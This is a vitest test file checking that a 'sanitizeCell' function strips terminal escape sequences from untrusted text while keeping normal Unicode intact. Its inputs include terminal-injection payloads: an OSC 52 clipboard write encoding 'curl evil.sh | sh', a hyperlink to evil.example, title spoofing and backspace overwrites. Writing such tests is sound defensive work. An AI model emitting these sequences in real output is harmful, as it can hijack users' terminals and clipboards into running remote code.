import {describe, expect, it} from 'vitest';
import {sanitizeCell} from '../../src/model/sanitize.js';

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

describe('sanitizeCell strips terminal control sequences from untrusted text', () => {
	it.each<[string, string, string]>([
		// CSI
		['clear screen', `a${ESC}[2Jb`, 'ab'],
		['cursor home', `${ESC}[Hname`, 'name'],
		['cursor move with parameters', `x${ESC}[10;20Hy`, 'xy'],
		['cursor up', `x${ESC}[5Ay`, 'xy'],
		['erase line', `x${ESC}[2Ky`, 'xy'],
		['SGR colour is dropped in cells', `${ESC}[31;1mred${ESC}[0m`, 'red'],
		['private mode: alternate screen', `${ESC}[?1049hx`, 'x'],
		['private mode: hide cursor', `x${ESC}[?25l`, 'x'],
		['CSI with an intermediate byte', `x${ESC}[1 qy`, 'xy'],
		['an unfinished CSI at the end', `name${ESC}[31`, 'name'],
		['a CSI introducer alone', `a${ESC}[`, 'a'],
		['two CSIs back to back', `${ESC}[${ESC}[2Jok`, 'ok'],
		// OSC
		['OSC title ended by BEL', `pod${ESC}]0;pwned${BEL}-1`, 'pod-1'],
		['OSC title ended by ST', `pod${ESC}]2;pwned${ST}-1`, 'pod-1'],
		['OSC 52 clipboard write', `x${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}y`, 'xy'],
		['OSC 52 clipboard write ended by ST', `x${ESC}]52;c;Y3VybA==${ST}y`, 'xy'],
		['OSC 8 hyperlink keeps its text', `${ESC}]8;;https://evil.example${ST}click${ESC}]8;;${ST}`, 'click'],
		['an unterminated OSC eats the rest', `ok${ESC}]0;evil title`, 'ok'],
		['an OSC payload with a newline', `a${ESC}]0;x\ny${BEL}b`, 'ab'],
		// DCS, SOS, PM, APC
		['DCS (sixel)', `a${ESC}Pq#0;2;0;0;0#0!10~${ST}b`, 'ab'],
		['DCS ended by BEL', `a${ESC}P+q544e${BEL}b`, 'ab'],
		['APC (kitty graphics)', `a${ESC}_Gf=100;AAAA${ST}b`, 'ab'],
		['PM', `a${ESC}^private${ST}b`, 'ab'],
		['SOS', `a${ESC}Xstring${ST}b`, 'ab'],
		// 8-bit C1 forms
		['8-bit CSI clear screen', 'a\u009b2Jb', 'ab'],
		['8-bit CSI cursor move', 'a\u009b10;20Hb', 'ab'],
		['8-bit OSC ended by 8-bit ST', 'a\u009d0;title\u009cb', 'ab'],
		['8-bit OSC ended by BEL', 'a\u009d52;c;eA==\u0007b', 'ab'],
		['8-bit DCS', 'a\u0090qdata\u009cb', 'ab'],
		['8-bit APC', 'a\u009fpayload\u009cb', 'ab'],
		['8-bit PM', 'a\u009epayload\u009cb', 'ab'],
		['8-bit SOS', 'a\u0098payload\u009cb', 'ab'],
		['a lone C1 control (NEL)', 'a\u0085b', 'ab'],
		// bare ESC and two-byte escapes
		['a bare ESC at the end', `name${ESC}`, 'name'],
		['full reset (ESC c)', `a${ESC}cb`, 'ab'],
		['save cursor (ESC 7)', `a${ESC}7b`, 'ab'],
		['index (ESC D)', `a${ESC}Db`, 'ab'],
		// whitespace and C0 controls
		['tab becomes a space', 'a\tb', 'a b'],
		['newline becomes a space', 'a\nb', 'a b'],
		['carriage return becomes a space', 'a\rb', 'a b'],
		['CRLF becomes two spaces', 'a\r\nb', 'a  b'],
		['vertical tab and form feed become spaces', 'a\u000bb\u000cc', 'a b c'],
		['BEL dropped', `ding${BEL}`, 'ding'],
		['backspace dropped (cannot overwrite what was drawn)', 'safe\b\b\b\bevil', 'safeevil'],
		['NUL dropped', 'a\u0000b', 'ab'],
		['DEL dropped', 'a\u007fb', 'ab'],
		['shift-out dropped', 'a\u000eb', 'ab'],
	])('%s', (_name, input, want) => {
		expect(sanitizeCell(input)).toBe(want);
	});

	it.each([
		['plain ASCII', 'frontend-api-7d9f8c-x2x9z'],
		['CJK', '日本語のポッド'],
		['emoji and ZWJ sequences', 'deploy 👍 👨\u200d👩\u200d👧 ❤️'],
		['accents, precomposed and combining', 'café cafe\u0301 Müller'],
		['punctuation and symbols', 'a=b,c!=d (x) [y] {z} ~`@#$%^&*'],
		['right-to-left script', 'שלום עולם'],
		['Latin-1 letters just above the C1 range', 'àéîõü ñ ß ÿ ¡¿ ©®'],
		['empty', ''],
	])('keeps normal text intact: %s', (_name, text) => {
		expect(sanitizeCell(text)).toBe(text);
	});

	it.each([
		`${ESC}[2J${ESC}[H${ESC}]0;t${BEL}${ESC}]52;c;eA==${ST}${ESC}Pq${ST}\u009b2J\u009d0;t\u009c${ESC}c\t\n\r\u0000\u007f\u0085`,
		`${ESC}${ESC}${ESC}[${ESC}]`,
		'\u009b\u009b\u009b',
		`${ESC}[${'9;'.repeat(1000)}H`,
	])('leaves no control character at all: %j', (input) => {
		// eslint-disable-next-line no-control-regex -- the point of the check
		expect(sanitizeCell(input)).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
	});

	it('a charset designation (ESC ( B, as tput sgr0 prints) is removed whole', () => {
		expect(sanitizeCell(`x${ESC}(B${ESC}[my`)).toBe('xy');
	});
});
